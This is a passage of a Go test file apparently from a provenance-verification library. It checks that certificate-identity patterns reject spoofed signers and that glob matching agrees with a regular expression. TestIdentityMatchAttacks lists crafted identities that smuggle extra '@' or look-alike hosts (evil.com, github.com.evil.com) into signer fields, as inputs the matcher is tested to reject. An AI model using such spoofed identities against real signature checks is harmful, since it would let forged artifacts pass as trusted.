				Content: &protobundle.VerificationMaterial_PublicKey{PublicKey: &protocommon.PublicKeyIdentifier{Hint: "x"}},
			},
			Content: &protobundle.Bundle_DsseEnvelope{DsseEnvelope: &protodsse.Envelope{
				Payload: []byte(payload), PayloadType: payloadType, Signatures: []*protodsse.Signature{{Sig: sig}},
			}},
		})
		return string(b)
	}
}

// TestIdentityMatchAttacks: identities an attacker can get a certificate
// for (a workflow of their own repository on a branch they name, a URI
// with "@" in it, an address with two "@") match no pattern meant for
// someone else.
func TestIdentityMatchAttacks(t *testing.T) {
	const gha, ex = "https://token.actions.githubusercontent.com", "https://accounts.example.com"
	for _, tc := range []struct {
		pattern, identity, issuer string
	}{
		// GitHub Actions: Git allows "@" in a branch name.
		{"*@example.com@" + gha, "https://github.com/evil/repo/.github/workflows/w.yml@refs/heads/x@example.com", gha},
		{"*@example.com@" + ex, "https://evil.com/@example.com", ex},
		{"*@example.com@" + ex, "a@b@example.com", ex},
		{"alice*@example.com@" + ex, "alice@evil.com@example.com", ex},
		{"*@*.example.com@" + ex, "a@evil.com.example.com", ex}, // '*' is one label of the domain
		{"*@example.*@" + ex, "a@example.evil.com", ex},
		{"*@example.com@" + ex, "alice@example.com.evil", ex},
		// URI patterns: '*' crosses "/" in the path only, never "@" or the host.
		{"https://github.com/org/*@" + gha, "https://github.com/evil/r/.github/workflows/w.yml@refs/heads/org/x", gha},
		{"https://github.com/org/*@" + gha, "https://github.com.evil.com/org/r/.github/workflows/w.yml@refs/heads/main", gha},
		{"https://github.com/org/*@" + gha, "https://github.com@evil.com/org/r/.github/workflows/w.yml@refs/heads/main", gha},
		{"https://*.github.com/org/*@" + gha, "https://evil.com/x.github.com/org/r@refs/heads/main", gha},
		{"https://github.com/org/r/*@refs/heads/main@" + gha, "https://github.com/org/r/w.yml@refs/heads/evil@refs/heads/main", gha},
		{"https://github.com/org/*@" + gha, "http://github.com/org/r/.github/workflows/w.yml@refs/heads/main", gha},
		{"https://github.com/org/*@" + gha, "https://github.com/org/r/.github/workflows/w.yml@refs/heads/main", "https://evil.example.com"},
		// Other identities: '*' crosses no separator.
		{"*.example.com@" + ex, "evil.com/.example.com", ex},
		{"*.example.com@" + ex, "x@a.example.com", ex},
	} {
		id, err := provenance.ParseIdentity(tc.pattern)
		if err != nil {
			t.Fatalf("ParseIdentity(%q): %v", tc.pattern, err)
		}
		if s := (&provenance.Signer{Identity: tc.identity, Issuer: tc.issuer}); id.Match(s) {
			t.Errorf("%q matches %s", tc.pattern, s)
		}
	}
}

// TestIdentityMatchGlob compares the glob of a pattern of an identity of
// neither kind ('*' and '?' never cross ".") with the regular expression
// it means, over every short string.
func TestIdentityMatchGlob(t *testing.T) {
	const issuer = "https://issuer.example.com"
	patterns := []string{"a*", "*a", "a*b", "*a*", "a?b", "?*?", "a**b", "*ab*ba*", "ab", "*.*", "a*.b*", "*b.*a", "?.?*"}
	alphabet := "ab."
	var inputs []string
	var gen func(string)
	gen = func(s string) {
		inputs = append(inputs, s)
		if len(s) < 6 {
			for _, c := range alphabet {
				gen(s + string(c))
			}
		}
	}
	gen("")
	for _, p := range patterns {
		re := regexp.MustCompile("^" + strings.NewReplacer("*", "[^.]*", "?", "[^.]", ".", "\\.").Replace(p) + "$")
		id := provenance.Identity{Identity: p, Issuer: issuer}
		for _, in := range inputs[1:] {
			s := &provenance.Signer{Identity: in, Issuer: issuer}
			if got, want := id.Match(s), re.MatchString(s.Identity); got != want {
				t.Errorf("%q.Match(%q) = %t, want %t", id.Identity, s.Identity, got, want)
			}
		}
	}
}
